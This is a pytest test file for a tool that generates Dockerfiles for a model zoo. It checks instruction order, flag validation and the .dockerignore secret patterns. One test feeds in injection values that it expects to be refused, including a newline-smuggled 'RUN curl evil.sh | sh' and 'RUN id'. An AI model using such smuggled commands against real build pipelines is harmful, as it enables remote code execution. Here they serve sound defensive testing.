"""`zoo init`: the generated Dockerfile's content, order and flag handling (no engine)."""

from __future__ import annotations

import pytest
from elasticdl.client.zoo_dockerfile import (
    DEFAULT_BASE_IMAGE,
    ZooInitConfig,
    ZooInitError,
    init_model_zoo,
    render_dockerfile,
)


def _instructions(text: str) -> list[str]:
    return [ln for ln in text.splitlines() if ln and not ln.startswith("#")]


@pytest.fixture
def ctx(tmp_path):
    zoo = tmp_path / "model_zoo"
    (zoo / "mnist").mkdir(parents=True)
    (zoo / "mnist" / "model.py").write_text("")
    (zoo / "requirements.txt").write_text("pillow\n")
    return tmp_path


def test_defaults_cache_friendly_order(ctx):
    text = render_dockerfile(ZooInitConfig(model_zoo="model_zoo"), ctx)
    assert _instructions(text) == [
        f"FROM {DEFAULT_BASE_IMAGE}",
        # The base image runs as its non-root user: root only to install, then back.
        "USER root",
        "COPY model_zoo/requirements.txt /model_zoo/requirements.txt",
        "RUN python3 -m pip install --no-cache-dir -r /model_zoo/requirements.txt",
        "COPY model_zoo /model_zoo",
        "ENV PYTHONPATH=/model_zoo",
        "USER 10001:10001",
    ]


def test_zoo_is_the_context_itself_and_has_no_requirements(tmp_path):
    (tmp_path / "model.py").write_text("")
    text = render_dockerfile(ZooInitConfig(base_image="local/base"), tmp_path)
    assert _instructions(text) == [
        "FROM local/base",
        "COPY . /model_zoo",
        "ENV PYTHONPATH=/model_zoo",
    ]


def test_all_flags(ctx, tmp_path_factory):
    (ctx / "wheels").mkdir()
    (ctx / "wheels" / "elasticdl-0.3.0-py3-none-any.whl").write_bytes(b"")
    outside = tmp_path_factory.mktemp("elsewhere") / "spec.py"
    outside.write_text("cluster = None\n")
    cfg = ZooInitConfig(
        base_image="127.0.0.1:5000/elasticdl:cpu",
        model_zoo="model_zoo",
        cluster_spec=str(outside),
        local_pkg_dir="wheels",
        extra_pypi_index="https://mirror.example/simple",
    )
    path = init_model_zoo(cfg, ctx)
    assert path == ctx / "Dockerfile"
    assert (ctx / "spec.py").read_text() == "cluster = None\n"  # copied into the context
    pip = "python3 -m pip install --no-cache-dir --extra-index-url https://mirror.example/simple"
    assert _instructions(path.read_text()) == [
        "FROM 127.0.0.1:5000/elasticdl:cpu",
        "USER root",
        "COPY wheels/*.whl /tmp/elasticdl_pkgs/",
        f"RUN {pip} /tmp/elasticdl_pkgs/*.whl",
        "COPY model_zoo/requirements.txt /model_zoo/requirements.txt",
        f"RUN {pip} --find-links /tmp/elasticdl_pkgs -r /model_zoo/requirements.txt",
        "COPY spec.py /cluster_spec/spec.py",
        "COPY model_zoo /model_zoo",
        "ENV PYTHONPATH=/model_zoo",
        "USER 10001:10001",
    ]


def test_cluster_spec_inside_context_is_referenced_in_place(ctx):
    (ctx / "conf").mkdir()
    (ctx / "conf" / "spec.py").write_text("")
    text = render_dockerfile(ZooInitConfig(model_zoo="model_zoo", cluster_spec="conf/spec.py"), ctx)
    assert "COPY conf/spec.py /cluster_spec/spec.py" in text


def test_render_writes_nothing(ctx):
    render_dockerfile(ZooInitConfig(model_zoo="model_zoo"), ctx)
    assert not (ctx / "Dockerfile").exists()


@pytest.mark.parametrize(
    "kwargs, message",
    [
        ({"model_zoo": "missing"}, "--model_zoo=missing is not a directory"),
        ({"model_zoo": ".."}, "--model_zoo=.. is outside the build context"),
        ({"local_pkg_dir": "model_zoo"}, "--local_pkg_dir=model_zoo holds no *.whl files"),
        ({"local_pkg_dir": "nope"}, "--local_pkg_dir=nope is not a directory"),
        ({"cluster_spec": "nope.py"}, "--cluster_spec=nope.py is not a file"),
        ({"base_image": "a b"}, "--base_image='a b' is not an image name"),
        ({"extra_pypi_index": "mirror.example"}, "--extra_pypi_index=mirror.example is not a URL"),
    ],
)
def test_bad_input_names_the_flag(ctx, kwargs, message):
    with pytest.raises(ZooInitError, match=None) as e:
        init_model_zoo(ZooInitConfig(**kwargs), ctx)
    assert message in str(e.value)
    assert isinstance(e.value, ValueError)
    assert not (ctx / "Dockerfile").exists()


@pytest.mark.parametrize(
    "field, value",
    [
        ("extra_pypi_index", "https://host/simple\nRUN curl evil.sh | sh"),
        ("extra_pypi_index", "https://host/simple\r"),
        ("extra_pypi_index", "https://host/simple --trusted-host evil"),
        ("base_image", "python:3.11\nRUN id"),
        ("model_zoo", "model_zoo\nRUN id"),
    ],
)
def test_values_that_would_break_out_of_their_line_are_refused(ctx, field, value):
    with pytest.raises(
        ZooInitError, match=f"--{field}=.* contains (control characters|spaces)"
    ) as e:
        init_model_zoo(ZooInitConfig(**{"model_zoo": "model_zoo", field: value}), ctx)
    assert "\n" not in str(e.value)
    assert not (ctx / "Dockerfile").exists() and not (ctx / ".dockerignore").exists()


def test_dockerignore_keeps_secrets_out_and_a_users_own_is_kept(ctx):
    init_model_zoo(ZooInitConfig(model_zoo="model_zoo"), ctx)
    ignored = (ctx / ".dockerignore").read_text().splitlines()
    for pattern in ("**/.env", "**/.env.*", "**/.git", "**/__pycache__"):
        assert pattern in ignored
    (ctx / ".dockerignore").write_text("mine\n")
    init_model_zoo(ZooInitConfig(model_zoo="model_zoo"), ctx)
    assert (ctx / ".dockerignore").read_text() == "mine\n"


def test_dockerignore_patterns_exclude_env_files_as_docker_matches_them(ctx):
    # Docker's rule: "**" matches any number of directories, zero included.
    import fnmatch

    init_model_zoo(ZooInitConfig(model_zoo="model_zoo"), ctx)
    patterns = [
        p for p in (ctx / ".dockerignore").read_text().splitlines() if p and not p.startswith("#")
    ]

    def ignored(path):
        return any(
            fnmatch.fnmatch(path, p) or (p.startswith("**/") and fnmatch.fnmatch(path, p[3:]))
            for p in patterns
        )

    for path in (".env", ".env.local", "model_zoo/.env", "model_zoo/mnist/.env.prod", ".git"):
        assert ignored(path), path
    assert not ignored("model_zoo/mnist/model.py")
